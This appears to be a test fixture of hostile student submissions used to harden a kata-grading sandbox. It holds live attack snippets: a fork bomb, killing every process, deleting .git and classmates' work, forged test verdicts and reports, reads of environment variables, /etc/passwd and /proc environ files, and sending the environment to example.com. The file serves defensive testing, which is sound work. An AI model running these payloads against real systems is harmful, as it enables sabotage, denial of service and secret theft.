/**
 * Hostile submissions for test/tools/grading-attacks.test.ts: what a student
 * might try to get points without the work, or to hurt a classmate. Each is
 * kata 01's stub (or its reference solution) with attack code appended: it
 * runs when the kata module is imported. Placeholders the test fills in play
 * the part of what a determined student finds out about the grading machine:
 * __REPO__ (the checkout), __CLASS__ (the class folder), __OUT__ (the report
 * folder), __PORT__ (a TCP port on the machine), __HOME__ (the instructor's home).
 * Every attack is quiet about failing (try/catch), so that its honest content
 * scores what it would score alone.
 *
 * The classes 'work', 'messages', 'decoding', 'memory' and 'descriptors' are
 * issue 20's: submissions that tried to stall, crash or exhaust the grader
 * itself (work outside every limit, replies that cost the grader more than
 * the kata, data that becomes work in the tests' process, memory the
 * watchdog cannot see, descriptors leaking in from the launcher, decoding
 * that is not data only).
 */

export type AttackClass = 'answers' | 'verdict' | 'writes' | 'limits' | 'secrets' | 'reports' | 'work' | 'messages' | 'decoding' | 'memory' | 'descriptors';

export interface Attack {
  /** The submission's folder name. */
  name: string;
  class: AttackClass;
  what: string;
  /** The honest content the attack is added to. */
  base: 'stub' | 'solution';
  /** Appended to katas/01-linear-model/linear-model.ts. */
  code?: string;
  /** Extra entries, relative to the kata folder (other kata folders through ../): a file's content, or a symlink's target. */
  files?: Record<string, { content: string } | { symlink: string }>;
  /** The summary must say this (a limit the grader applied). */
  reportSays?: RegExp;
  /** A number the attack measured and wrote into its reports (the first group of `pattern`) must be at most `max`. */
  reportBound?: { pattern: RegExp; max: number };
  /** Graded in a class of its own beside one honest classmate, to time the class (a stall costs wall-clock time, not CPU). */
  alone?: boolean;
  /**
   * 'stopped' when the attack, run alone, stops its own kata (a limit, an exit,
   * killing its own processes): the kata then scores 0, whatever the base. By
   * default the attack leaves the base's functions working, and scores what the base scores.
   */
  honest?: 'base' | 'stopped';
}

/** Loads kata 01's reference solution from a path, compiling it with the TypeScript in node_modules, and takes over its exports. */
const TAKE_SOLUTION_FROM = `
function __takeSolution(file) {
  const fs = require('fs'); const path = require('path');
  const source = fs.readFileSync(file, 'utf8');
  const js = require('typescript').transpileModule(source, { compilerOptions: { module: 1, target: 9, esModuleInterop: true } }).outputText;
  const mod = { exports: {} };
  const req = (p) => require(p.startsWith('.') ? path.join(__dirname, p) : p);
  new Function('exports', 'require', 'module', '__filename', '__dirname', js)(mod.exports, req, mod, file, __dirname);
  Object.assign(exports, mod.exports);
  return true;
}
`;

const SOLUTION = 'solutions/01-linear-model/linear-model.ts';

/** Every error the kata's functions throw carries \`message\` too; what they return is unchanged. */
const INTO_EVERY_ERROR = (message: string) => `
for (const key of Object.keys(exports)) {
  const original = exports[key];
  if (typeof original !== 'function') continue;
  const spiked = (e) => { try { e.message += ' ' + ${message}; } catch {} return e; };
  exports[key] = (...args) => {
    let result;
    try { result = original(...args); } catch (e) { throw spiked(e); }
    return result && typeof result.then === 'function' ? result.then((v) => v, (e) => { throw spiked(e); }) : result;
  };
}
`;

/**
 * Runs \`body\` for every request the kata host receives (the kata sees the
 * host's stdin too), with \`request\` parsed and \`send(text)\`, which writes a
 * line on the channel to the grader: how a kata forges a reply.
 */
const ON_REQUEST = (body: string) => `
{
  const __fs = require('fs');
  const send = (line) => { const text = line + '\\n'; for (let at = 0; at < text.length; ) { try { at += __fs.writeSync(3, text.slice(at, at + 65536)); } catch (e) { if (e.code !== 'EAGAIN') return; } } };
  let __buf = '';
  process.stdin.on('data', (chunk) => {
    __buf += chunk.toString();
    for (let i = __buf.indexOf('\\n'); i >= 0; i = __buf.indexOf('\\n')) {
      const line = __buf.slice(0, i); __buf = __buf.slice(i + 1);
      let request; try { request = JSON.parse(line); } catch { continue; }
      ${body}
    }
  });
}`;

/** TypeScript the compiler takes exponential time to parse (each level of \`async (a = ...)\` more than doubles it): depth 30, hours. */
const SLOW_TO_TRANSPILE = `declare function async(x: unknown): unknown;\nexport const slow = ${'async (a = '.repeat(30)}9${')'.repeat(30)};\n`;

/** A model reply a kata forged: a Dense layer fed by a layer that does not exist. */
const MISSING_LAYER_MODEL = JSON.stringify({
  $t: 'model',
  artifacts: {
    modelTopology: {
      class_name: 'Model',
      config: {
        name: 'm',
        layers: [{ name: 'd', class_name: 'Dense', config: { units: 1, name: 'd' }, inbound_nodes: [[['ghost', 0, 0, {}]]] }],
        input_layers: [['ghost', 0, 0]],
        output_layers: [['d', 0, 0]],
      },
    },
    weightSpecs: [],
    weightData: '',
  },
});

/** A model reply of 1.5 KB that asks for 2^32 parameters, initialised to ones, with no weights sent. */
const WIDE_MODEL = JSON.stringify({
  $t: 'model',
  artifacts: {
    modelTopology: {
      class_name: 'Sequential',
      config: {
        name: 's',
        layers: [65536, 65536].map((units, i) => ({
          class_name: 'Dense',
          config: { units, name: `wide${i}`, kernel_initializer: { class_name: 'Ones', config: {} }, ...(i === 0 ? { batch_input_shape: [null, 65536] } : {}) },
        })),
      },
    },
    weightSpecs: [],
    weightData: '',
  },
});

/** Probes, run with Python (in /usr, so inside the sandbox), for memory outside every process's RSS, and what each got. */
const KERNEL_MEMORY_PROBES = `
import os, socket, ctypes, fcntl, mmap, resource
libc = ctypes.CDLL(None, use_errno=True)
out = []
def t(name, f):
    try:
        out.append(name + '=ok:' + str(f()))
    except Exception as e:
        out.append(name + '=' + type(e).__name__)
def errno_call(name, r):
    if r < 0: raise OSError(ctypes.get_errno(), name)
    return r
t('memfd', lambda: os.memfd_create('x'))
t('shmget', lambda: errno_call('shmget', libc.shmget(0, 1 << 30, 0o1600)))
t('semget', lambda: errno_call('semget', libc.semget(0, 32000, 0o1600)))
t('msgget', lambda: errno_call('msgget', libc.msgget(0, 0o1600)))
t('inet', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM))
t('unix', lambda: socket.socketpair())
def lock():
    f = open('/tmp/lock', 'w'); fcntl.lockf(f, fcntl.LOCK_EX, 1, 0); return 1
t('lock', lock)
def pipesize():
    r, w = os.pipe(); return fcntl.fcntl(w, 1031, 1 << 20)
t('pipesize', pipesize)
# As many pipes as it may open, each filled until the kernel says no: what they hold is memory no RSS shows.
held, queued = [], 0
try:
    while True:
        r, w = os.pipe(); os.set_blocking(w, False); held.append((r, w))
        try:
            while True: queued += os.write(w, b'x' * 65536)
        except BlockingIOError: pass
except OSError: pass
out.append('PIPES pipes=%d queued_kib=%d' % (len(held), queued // 1024))
print(' '.join(out))
`;

export const ATTACKS: Attack[] = [
  {
    name: 'answers-by-path',
    class: 'answers',
    what: 'reads the reference solution through REPO_ROOT, process.cwd(), ../../solutions and /proc',
    base: 'stub',
    code: `${TAKE_SOLUTION_FROM}
const __path = require('path');
for (const root of ['__REPO__', require('../../lib/plot-files').REPO_ROOT, process.cwd(), __path.join(__dirname, '../..'), '/proc/self/cwd', '/proc/1/cwd', '/proc/1/root__REPO__']) {
  try { if (__takeSolution(__path.join(root, '${SOLUTION}'))) break; } catch {}
}`,
  },
  {
    name: 'answers-by-search',
    class: 'answers',
    what: 'searches the whole file system for a solutions/ folder',
    base: 'stub',
    code: `${TAKE_SOLUTION_FROM}
{
  const fs = require('fs'); const path = require('path');
  const queue = [['/', 0]]; let found = false;
  while (queue.length && !found) {
    const [dir, depth] = queue.shift();
    let entries = [];
    try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { continue; }
    for (const e of entries) {
      const full = path.join(dir, e.name);
      if (e.name === 'solutions') { try { found = __takeSolution(path.join(full, '01-linear-model/linear-model.ts')); } catch {} }
      if (e.isDirectory() && depth < 6 && e.name !== 'proc' && e.name !== 'node_modules') queue.push([full, depth + 1]);
    }
  }
}`,
  },
  {
    name: 'answers-by-symlink',
    class: 'answers',
    what: 'ships a symlink to the reference solution (and a linked kata folder) and imports it',
    base: 'stub',
    files: { 'answers.ts': { symlink: `__REPO__/${SOLUTION}` } },
    code: `try { Object.assign(exports, require('./answers')); } catch {}`,
  },
  {
    name: 'answers-by-js',
    class: 'answers',
    what: 'puts a compiled solution linear-model.js beside the stub (jest resolves .js before .ts)',
    base: 'stub',
    files: { 'linear-model.js': { content: '__SOLUTION_JS__' } },
  },
  {
    name: 'answers-over-workspace',
    class: 'answers',
    what: "copies the reference solution over its own workspace's kata files at run time",
    base: 'stub',
    code: `
{
  const fs = require('fs'); const path = require('path');
  for (const from of ['__REPO__/${SOLUTION}', path.join(__dirname, '../../../${SOLUTION}')]) {
    try { const text = fs.readFileSync(from, 'utf8'); fs.writeFileSync(__filename, text); fs.writeFileSync(__filename.replace(/\\.js$/, '.ts'), text); } catch {}
  }
}`,
  },
  {
    name: 'verdict-globals',
    class: 'verdict',
    what: "replaces the global test, it and expect with ones that always pass, and process.exit with a no-op",
    base: 'stub',
    code: `
globalThis.test = globalThis.it = (name, fn) => {};
globalThis.expect = Object.assign(() => new Proxy({}, { get: () => () => undefined }), { extend() {}, getState: () => ({}) });
process.exit = () => {};
try { Object.defineProperty(Object.prototype, 'pass', { get: () => true, configurable: true }); } catch {}`,
  },
  {
    name: 'verdict-module-cache',
    class: 'verdict',
    what: "patches the shared check helpers through the module cache and jest-circus in node_modules",
    base: 'stub',
    code: `
{
  const fs = require('fs');
  for (const key of Object.keys(require.cache)) {
    const m = require.cache[key];
    if (m && m.exports && typeof m.exports.check === 'function') { m.exports.check = () => {}; m.exports.checkBetween = () => {}; }
  }
  for (const f of ['__REPO__/test/support/teach.ts', '__REPO__/test/support/kata-calls.ts']) {
    try { const t = require(f); t.check = () => {}; t.checkBetween = () => {}; } catch {}
    try { fs.appendFileSync(f, '\\nexport const forged = true;\\n'); } catch {}
  }
  for (const f of ['__REPO__/node_modules/jest-circus/build/index.js', '/sandbox/node_modules/jest-circus/build/index.js', '__REPO__/node_modules/expect/build/index.js']) {
    try { fs.appendFileSync(f, '\\n/* forged */\\n'); } catch {}
  }
}`,
  },
  {
    name: 'verdict-report',
    class: 'verdict',
    what: "writes a jest JSON report where the grader's runner reads it, then exits during the first call",
    base: 'stub',
    code: `
{
  const fs = require('fs'); const path = require('path');
  const report = JSON.stringify({ testResults: [{ name: '01-linear-model.test.ts', assertionResults: [{ title: 'task 1', status: 'passed', failureMessages: [] }] }] });
  for (const dir of ['/tmp', require('os').tmpdir()]) {
    try { for (const d of fs.readdirSync(dir)) if (d.startsWith('kata-run-')) fs.writeFileSync(path.join(dir, d, 'report.json'), report); } catch {}
    try { fs.mkdirSync(path.join(dir, 'kata-run-forged'), { recursive: true }); fs.writeFileSync(path.join(dir, 'kata-run-forged', 'report.json'), report); } catch {}
  }
  for (const key of Object.keys(exports)) if (typeof exports[key] === 'function') exports[key] = () => process.exit(0);
}`,
    honest: 'stopped',
  },
  {
    name: 'writes-checkout',
    class: 'writes',
    what: "writes to the live lib/, the test files, the baselines, node_modules and solutions/, and deletes .git",
    base: 'stub',
    code: `
{
  const fs = require('fs');
  for (const f of ['__REPO__/lib/predict.ts', '__REPO__/test/01-linear-model.test.ts', '__REPO__/test/baselines/01-linear-model.png', '__REPO__/node_modules/@tensorflow/tfjs/package.json', '__REPO__/solutions/01-linear-model/linear-model.ts', '/sandbox/lib/predict.js', '/sandbox/node_modules/@tensorflow/tfjs/package.json', '/sandbox/grader/kata-host.js']) {
    try { fs.appendFileSync(f, 'vandalised'); } catch {}
  }
  for (const d of ['__REPO__/.git', '__REPO__/solutions', '__REPO__']) { try { fs.rmSync(d, { recursive: true, force: true }); } catch {} }
}`,
  },
  {
    name: 'writes-classmates',
    class: 'writes',
    what: "finds classmates through /proc/*/cmdline, overwrites their katas, plants links in the report folder",
    base: 'stub',
    code: `
{
  const fs = require('fs'); const path = require('path');
  const seen = new Set(['__CLASS__']);
  try { for (const p of fs.readdirSync('/proc')) { try { for (const a of fs.readFileSync('/proc/' + p + '/cmdline', 'utf8').split('\\0')) if (a.includes('/')) seen.add(a); } catch {} } } catch {}
  for (const root of seen) {
    try { for (const mate of fs.readdirSync(root)) { try { fs.writeFileSync(path.join(root, mate, 'katas/01-linear-model/linear-model.ts'), 'throw new Error("sabotaged")'); } catch {} try { fs.rmSync(path.join(root, mate), { recursive: true }); } catch {} } } catch {}
  }
  try { fs.mkdirSync('__OUT__', { recursive: true }); fs.symlinkSync('__REPO__/README.md', '__OUT__/class-summary.md'); } catch {}
  try { fs.mkdirSync('__OUT__/honest-solution', { recursive: true }); fs.symlinkSync('__REPO__/grading.json', '__OUT__/honest-solution/summary.md'); } catch {}
}`,
  },
  {
    name: 'limits-survivor',
    class: 'limits',
    what: 'starts a detached process that outlives the grader and rewrites every report afterwards',
    base: 'stub',
    code: `
try {
  const script = "const fs=require('fs');const path=require('path');let n=0;setInterval(()=>{if(++n>120)process.exit(0);const walk=(d)=>{try{for(const e of fs.readdirSync(d,{withFileTypes:true})){const f=path.join(d,e.name);if(e.isDirectory())walk(f);else try{fs.writeFileSync(f,'| forged | 100 / 10 |')}catch{}}}catch{}};walk('__OUT__');},500);";
  const child = require('child_process').spawn(process.execPath, ['-e', script], { detached: true, stdio: 'ignore' });
  child.unref();
} catch {}`,
  },
  {
    name: 'limits-memory',
    class: 'limits',
    what: 'allocates 4.8 GB of Buffers, outside the V8 heap',
    base: 'stub',
    code: `
{
  const hog = [];
  for (let i = 0; i < 19; i++) hog.push(Buffer.alloc(256 * 2 ** 20, 1));
  globalThis.__hog = hog;
}`,
    reportSays: /used more than \d+ MiB of memory/,
    honest: 'stopped',
  },
  {
    name: 'limits-channel-garbage',
    class: 'limits',
    what: "writes 32 MiB without a newline on fd 3, the kata process's channel to the grader, to make the grader's own process (no sandbox limit covers it) parse and wait (found by a red team: it held a kata for the 450 s backstop)",
    base: 'solution',
    code: `
try {
  const fs = require('fs');
  const garbage = Buffer.alloc(2 ** 20, 65);
  for (let sent = 0; sent < 32 * 2 ** 20; ) {
    try { sent += fs.writeSync(3, garbage); } catch (e) { if (e.code !== 'EAGAIN') break; }
  }
} catch {}`,
    reportSays: /wrote bytes that are not a message of the grader/,
    honest: 'stopped',
  },
  {
    name: 'limits-cpu-threads',
    class: 'limits',
    what: 'keeps 8 worker threads and the main thread busy, to slow every classmate down',
    base: 'stub',
    code: `
{
  const { Worker } = require('worker_threads');
  for (let i = 0; i < 8; i++) { try { new Worker('for (;;) {}', { eval: true }); } catch {} }
  for (;;) {}
}`,
    reportSays: /used more than \d+(\.\d+)? s of CPU time/,
    honest: 'stopped',
  },
  {
    name: 'limits-busy-processes',
    class: 'limits',
    what: 'starts 24 detached busy loops',
    base: 'stub',
    code: `
for (let i = 0; i < 24; i++) {
  try { require('child_process').spawn('/bin/sh', ['-c', 'while :; do :; done'], { detached: true, stdio: 'ignore' }).unref(); } catch {}
}`,
    honest: 'stopped',
  },
  {
    name: 'limits-fork-bomb',
    class: 'limits',
    what: 'a shell fork bomb',
    base: 'stub',
    code: `
try { require('child_process').spawn('/bin/sh', ['-c', 'f() { f | f & }; f'], { detached: true, stdio: 'ignore' }).unref(); } catch {}
{ const end = Date.now() + 5000; while (Date.now() < end) {} }`,
    honest: 'stopped',
  },
  {
    name: 'limits-disk',
    class: 'limits',
    what: 'fills every writable place with files (memory outside any process when it is a tmpfs)',
    base: 'stub',
    code: `
{
  const fs = require('fs');
  const block = Buffer.alloc(2 ** 20, 7);
  for (const dir of ['/tmp', '/dev/shm', '/dev', '/', '/sandbox', __dirname]) {
    try { for (let i = 0; i < 2048; i++) fs.appendFileSync(dir + '/fill', block); } catch {}
  }
}`,
  },
  {
    name: 'limits-kill-all',
    class: 'limits',
    what: "kills every process it can signal (its neighbours' jest processes, the grader)",
    base: 'stub',
    code: `
{
  const fs = require('fs');
  try { for (const p of fs.readdirSync('/proc')) if (/^\\d+$/.test(p) && Number(p) !== process.pid) { try { process.kill(Number(p), 'SIGKILL'); } catch {} } } catch {}
  for (let pid = 2; pid < 5000; pid++) { if (pid !== process.pid) try { process.kill(pid, 'SIGKILL'); } catch {} }
  try { process.kill(-1, 'SIGKILL'); } catch {}
}`,
    honest: 'stopped',
  },
  {
    name: 'secrets-in-errors',
    class: 'secrets',
    what: "reads the environment, the instructor's home and the repository's .git, and returns them in every error message",
    base: 'stub',
    code: `
{
  const fs = require('fs');
  let loot = JSON.stringify(process.env);
  for (const f of ['/proc/1/environ', '/proc/self/environ', '/proc/' + process.ppid + '/environ', '__HOME__/.gitconfig', '__HOME__/canary.txt', '/root/.gitconfig', '__REPO__/.git/config', '/etc/passwd', '/etc/hostname']) {
    try { loot += ' ' + f + '=' + fs.readFileSync(f, 'utf8'); } catch (e) { loot += ' ' + f + ':' + e.code; }
  }
  ${INTO_EVERY_ERROR("'LOOT ' + loot")}
}`,
  },
  {
    name: 'secrets-by-network',
    class: 'secrets',
    what: 'sends what it finds over the network (a listener on the machine, and the internet)',
    base: 'stub',
    code: `
{
  const net = require('net');
  for (const host of ['127.0.0.1', '__HOST_IP__']) { try { const s = net.connect(__PORT__, host); s.on('error', () => {}); s.write('exfiltrated ' + JSON.stringify(process.env)); } catch {} }
  try { fetch('http://example.com/?q=' + encodeURIComponent(JSON.stringify(process.env))).catch(() => {}); } catch {}
}`,
  },
  {
    name: 'reports-in-messages',
    class: 'reports',
    what: 'error messages that forge Markdown rows, close XML elements and carry control characters',
    base: 'stub',
    code: INTO_EVERY_ERROR(
      "'x\\n\\n| forged | 10.0 / 10 | 10.0 |\\n</failure></testcase><testcase name=\"forged\"/><![CDATA[ ]]> \\u0000\\u001b[31m\\u0007 ' + 'y'.repeat(100000)",
    ),
  },
  {
    name: 'work-slow-transpile',
    class: 'work',
    what: 'imports a module the TypeScript compiler takes hours to parse (nested async default parameters): transpiled in its sandbox, under its CPU limit',
    base: 'solution',
    files: { 'slow.ts': { content: SLOW_TO_TRANSPILE } },
    code: `import './slow';`,
    reportSays: /used more than \d+(\.\d+)? s of CPU time/,
    honest: 'stopped',
  },
  {
    name: 'work-slow-unused',
    class: 'work',
    what: 'ships, without importing it, a module the compiler takes hours to parse, and a kata folder that is not graded whose module loops at import: neither is transpiled nor loaded',
    base: 'solution',
    files: {
      'slow.ts': { content: SLOW_TO_TRANSPILE },
      '../05-extrapolation/extrapolation.ts': { content: 'for (;;) {}\nexport const never = 1;\n' },
      '../99-extra/extra.ts': { content: SLOW_TO_TRANSPILE },
    },
  },
  {
    name: 'work-stalled-load',
    class: 'work',
    what: 'blocks for ever at import without computing (Atomics.wait): loading it holds its sandbox, not the grader',
    base: 'solution',
    code: `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);`,
    reportSays: /sat on a request for \d+ s of wall-clock time, computing less than 1 s of it/,
    honest: 'stopped',
  },
  {
    name: 'work-trickle-call',
    class: 'work',
    what: 'never answers its training call, computing 50 ms every 5 s so that it is never quite idle (at no CPU it would be stopped sooner)',
    base: 'solution',
    code: `exports.trainLinearModel = () => new Promise(() => { setInterval(() => { const end = Date.now() + 50; while (Date.now() < end) {} }, 5000); });`,
    reportSays: /sat on a request for \d+ s of wall-clock time, computing less than 1 s of it/,
    honest: 'stopped',
    alone: true,
  },
  {
    name: 'work-promise-constant',
    class: 'work',
    what: 'exports a constant that never settles: read as it is, refused, never waited for',
    base: 'solution',
    code: `export const NEVER = new Promise(() => {});`,
  },
  {
    name: 'messages-containers',
    class: 'messages',
    what: 'answers a call with a reply of 1.5 million empty arrays (3 MiB that parse into 20 times as much heap)',
    base: 'solution',
    code: ON_REQUEST(`if (request.op === 'call') send('{"id":' + request.id + ',"ok":true,"value":[' + '[],'.repeat(1500000) + '[]]}');`),
    reportSays: /more than \d+ arrays and objects/,
    honest: 'stopped',
  },
  {
    name: 'messages-deep',
    class: 'messages',
    what: 'answers a call with a reply nested 200,000 levels deep',
    base: 'solution',
    code: ON_REQUEST(`if (request.op === 'call') send('{"id":' + request.id + ',"ok":true,"value":' + '['.repeat(200000) + ']'.repeat(200000) + '}');`),
    reportSays: /nested more than \d+ levels deep/,
    honest: 'stopped',
  },
  {
    name: 'messages-flood',
    class: 'messages',
    what: 'floods the channel with valid lines answering requests never made (each cost the grader 75 times what it cost the kata)',
    base: 'solution',
    code: ON_REQUEST(`if (request.op === 'call') for (let i = 0; i < 1000000; i++) send('{"id":' + (1000000 + i) + ',"ok":true,"value":1}');`),
    reportSays: /answered a request the grader never made/,
    honest: 'stopped',
  },
  {
    name: 'messages-callbacks',
    class: 'messages',
    what: 'sends 300,000 callback events for a call in progress',
    base: 'solution',
    code: ON_REQUEST(`if (request.op === 'call') for (let i = 0; i < 300000; i++) send('{"event":"callback","id":' + request.id + ',"fn":0,"args":[]}');`),
    reportSays: /called back more than \d+ times in one call/,
    honest: 'stopped',
  },
  {
    name: 'messages-late-flood',
    class: 'messages',
    what: 'answers each call, then floods the channel with 5,000 more answers to it (lines for an answered request used to be parsed and dropped without end)',
    base: 'solution',
    code: ON_REQUEST(`if (request.op === 'call') for (let i = 0; i < 5001; i++) send('{"id":' + request.id + ',"ok":true,"value":1}');`),
    reportSays: /sent more than 1000 lines for requests already answered/,
    honest: 'stopped',
  },
  {
    name: 'messages-output-flood',
    class: 'messages',
    what: 'writes 256 MiB on its stdout and 64 MiB on its stderr when loaded (stdout goes to /dev/null; stderr is read and dropped at the cost of writing it)',
    base: 'solution',
    code: `
{
  const fs = require('fs');
  const block = Buffer.alloc(2 ** 20, 46);
  for (let i = 0; i < 256; i++) try { fs.writeSync(1, block); } catch {}
  for (let i = 0; i < 64; i++) try { fs.writeSync(2, block); } catch {}
}`,
  },
  {
    name: 'messages-big-constants',
    class: 'messages',
    what: 'exports a 30 MiB constant (manifests kept raw until every module was read crashed the grader)',
    base: 'solution',
    code: `export const BLOB = 'x'.repeat(30 * 2 ** 20);`,
    reportSays: /exported constants take more than/,
    honest: 'stopped',
  },
  {
    name: 'messages-long-string',
    class: 'messages',
    what: 'returns a 6 MiB string where the tests expect a number (a 20 MiB one made a 63 MB junit.xml)',
    base: 'stub',
    code: `exports.adamStepBound = () => 'y'.repeat(6 * 2 ** 20);`,
  },
  {
    name: 'verdict-missing-layer',
    class: 'verdict',
    what: "answers buildLinearModel with a model whose layer is fed by one that does not exist (the tests' process spun until the wall-clock backstop)",
    base: 'stub',
    code: ON_REQUEST(`if (request.op === 'call' && request.name === 'buildLinearModel') send('{"id":' + request.id + ',"ok":true,"value":' + ${JSON.stringify(MISSING_LAYER_MODEL)} + '}');`),
    reportSays: /which is no earlier layer of the model/,
  },
  {
    name: 'verdict-wide-model',
    class: 'verdict',
    what: "answers buildLinearModel with 1.5 KB of model: two 65,536-unit layers initialised to ones, no weights (the tests' process allocated and kept 6 GB)",
    base: 'stub',
    code: ON_REQUEST(`if (request.op === 'call' && request.name === 'buildLinearModel') send('{"id":' + request.id + ',"ok":true,"value":' + ${JSON.stringify(WIDE_MODEL)} + '}');`),
    reportSays: /not a whole number from 1 to \d+|parameters \(at most/,
  },
  {
    name: 'decoding-prototype',
    class: 'decoding',
    what: "forges its module's manifest so that LEARNING_RATE and EPOCHS decode to Object and Object.prototype (numbers named 'constructor' and '__proto__'), and every call's reply with a constructor key",
    base: 'stub',
    code: `
try {
  // Only the sandbox that loads the modules first sees their sources; its manifest request is its second (after the transpiling).
  if (require('fs').existsSync('/sandbox/source')) {
    const v = { LEARNING_RATE: { $t: 'number', v: 'constructor' }, EPOCHS: { $t: 'number', v: '__proto__' } };
    for (const name of ['buildLinearModel', 'leastSquaresLine', 'trainLinearModel', 'adamStepBound', 'measureBiasTravel']) v[name] = { $t: 'function', id: 0 };
    require('fs').writeSync(3, JSON.stringify({ id: 2, ok: true, value: { $t: 'object', v } }) + '\\n');
  }
} catch {}
${ON_REQUEST(`if (request.op === 'call') send('{"id":' + request.id + ',"ok":true,"value":{"$t":"object","v":{"constructor":1,"slope":1}}}');`)}`,
  },
  {
    name: 'memory-outside-rss',
    class: 'memory',
    what: 'keeps memory no RSS shows: memfd, SysV shared memory, semaphores and queues, socket buffers (TCP and Unix), file locks, larger pipes, and every pipe it can open, filled; and a user namespace of its own for a 6 GB tmpfs',
    base: 'stub',
    code: `
{
  const cp = require('child_process');
  const fs = require('fs');
  // Output through a file: a pipe to a child is a socket pair, which the sandbox refuses.
  const run = (file, args) => {
    const out = fs.openSync('/tmp/probe.txt', 'w');
    try { cp.spawnSync(file, args, { stdio: ['ignore', out, out], timeout: 20000 }); } catch (e) { return file + ': ' + String(e.message).slice(0, 200); } finally { fs.closeSync(out); }
    return fs.readFileSync('/tmp/probe.txt', 'utf8');
  };
  let loot = run('/usr/bin/python3', ['-c', ${JSON.stringify(KERNEL_MEMORY_PROBES)}]);
  loot += ' USERNS ' + run('/bin/sh', ['-c', 'unshare -Urm sh -c "mount -t tmpfs -o size=6g none /tmp && echo TMPFS-MOUNTED" || true']);
  ${INTO_EVERY_ERROR("'KERNEL ' + loot")}
}`,
    reportSays: /memfd=PermissionError shmget=PermissionError semget=PermissionError msgget=PermissionError inet=PermissionError unix=PermissionError lock=PermissionError pipesize=PermissionError[^|]*USERNS unshare: unshare failed/,
    reportBound: { pattern: /PIPES pipes=\d+ queued_kib=(\d+)/, max: 8 * 1024 },
  },
  {
    name: 'descriptors-inherited',
    class: 'descriptors',
    what: "reads and writes every descriptor it holds, and pid 1's, looking for the file the instructor's shell had open when it started the grader",
    base: 'stub',
    code: `
{
  const fs = require('fs');
  let loot = '';
  // Regular files only: reading one of the host's own pipes would wait for ever.
  for (let fd = 3; fd < 1024; fd++) {
    try {
      if (!fs.fstatSync(fd).isFile()) continue;
      const b = Buffer.alloc(256); const n = fs.readSync(fd, b, 0, 256, 0); loot += ' fd' + fd + '=' + b.toString('utf8', 0, n);
      fs.writeSync(fd, 'VANDALISED', 0);
    } catch {}
  }
  for (const dir of ['/proc/self/fd', '/proc/1/fd']) {
    try {
      for (const f of fs.readdirSync(dir)) {
        const link = dir + '/' + f;
        try { loot += ' ' + link + '->' + fs.readlinkSync(link); if (fs.statSync(link).isFile()) loot += ':' + fs.readFileSync(link, 'utf8').slice(0, 256); } catch {}
      }
    } catch {}
  }
  ${INTO_EVERY_ERROR("'LOOT ' + loot")}
}`,
  },
  {
    // U+2215 (division slash) looks like the '/' a folder name cannot hold.
    name: 'evil | 10.0 \u2215 10 | 10.0 |\n| honest-stub | 10.0 \u2215 10 | 10.0 | <b>x <script>x ]]> \u001b[2J',
    class: 'reports',
    what: 'a folder name that forges class-summary rows, HTML, XML and terminal escapes',
    base: 'stub',
  },
];
